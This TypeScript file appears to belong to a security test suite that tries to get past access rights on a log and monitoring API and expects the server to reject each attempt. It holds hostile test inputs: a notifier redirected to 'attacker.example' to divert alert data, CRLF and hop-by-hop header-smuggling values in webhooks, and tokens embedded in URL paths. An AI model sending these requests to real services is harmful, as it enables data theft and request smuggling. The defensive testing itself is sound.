import { type Attack, attackedDataset, confidential, type Kind, type Message, type Rights } from '../attack.js';

/**
 * Attempts to get beyond a right. Any success is a violation, and so is a response to any attack
 * that has a value of the dataset that no attacker may query.
 */

const org = (resource: string, ...actions: readonly string[]): Rights => ({ orgCapabilities: { [resource]: actions } });

/** Reading everything of the organization. */
function readsAll(): Rights {
  const resources = ['annotations', 'monitors', 'dashboards', 'notifiers', 'views', 'datasets'];
  return {
    datasetCapabilities: { [attackedDataset]: { query: ['read'], starredQueries: ['read'] } },
    orgCapabilities: Object.fromEntries(resources.map((resource) => [resource, ['read']])),
  };
}

/** An attempt that the server must reject every time. */
const rejectedAttempt = (name: string, rights: Rights, messages: readonly Message[]): Attack => ({
  name,
  rights,
  mustFail: true,
  run: (attacker) => attacker.flood(2, messages),
});

const webhook = (properties: object): Message => ({
  path: '/v2/notifiers',
  body: JSON.stringify({ name: 'n', properties: { customWebhook: { body: '{}', ...properties } } }),
});
const headers = ['Host', 'Transfer-Encoding', 'Content-Length', 'Connection', 'Upgrade', 'TE', 'a b', 'x\r\ny'];

/** Everything that repeats values of events. */
const derivedReads: readonly Message[] = [
  '/v2/annotations',
  '/v2/monitors',
  '/v2/monitors/_status',
  '/v2/monitors/_runs',
  '/v2/monitors/_incidents?startTime=2020-01-01T00:00:00Z',
  '/v2/apl-starred-queries?who=all',
  '/v2/dashboards',
  '/v1/datasets/_history',
  '/v1/queries',
].map((path) => ({ path }));

/** Redirects a notifier with a token that may not read the datasets of its monitors. */
const redirect: Attack = {
  name: 'a notifier of others is redirected',
  rights: org('notifiers', 'read', 'update'),
  mustFail: true,
  run: async (attacker) => {
    for (const { id } of attacker.notifiers)
      await attacker.send({
        path: `/v2/notifiers/${id}`,
        method: 'PUT',
        body: JSON.stringify({ name: 'mine', properties: { webhook: { url: 'https://attacker.example/' } } }),
      });
  },
};

/** Paths that have a token, where the route does not match: it must not reach the log. */
const inPaths: Attack = {
  name: 'the token in paths, with wrong methods, in longer paths and in capitals',
  rights: org('datasets', 'read'),
  run: (attacker) => {
    const { token } = attacker;
    const paths = ['/v1/in/', '/V1/IN/', '/v1/in/-/', '/services/', '/status/'].flatMap((path) => [
      `${path}${token}/${attackedDataset}`,
      `${path}${token.toUpperCase()}/${attackedDataset}/more`,
      `${path}x?token=${token}`,
    ]);
    return attacker.flood(
      2,
      paths.flatMap((path) => ['GET', 'PUT', 'DELETE'].map((method): Message => ({ path, method }))),
    );
  },
};

export const rights: Kind = {
  attacks: [
    {
      name: `values of ${confidential.dataset} in what repeats them`,
      rights: readsAll(),
      run: (attacker) =>
        attacker.flood(
          4,
          (function* () {
            for (let round = 0; round < 20; round++) yield* derivedReads;
          })(),
        ),
    },
    redirect,
    inPaths,
    rejectedAttempt(
      'headers of webhooks that smuggle',
      org('notifiers', 'create'),
      headers.map((name) => webhook({ url: 'https://example.com/', headers: { [name]: 'x' } })),
    ),
    rejectedAttempt(
      'datasets with names of the system',
      org('datasets', 'create', 'read'),
      ['axiom-audit', 'axiom-history', '_x'].map((name) => ({ path: '/v2/datasets', body: JSON.stringify({ name }) })),
    ),
  ],
};
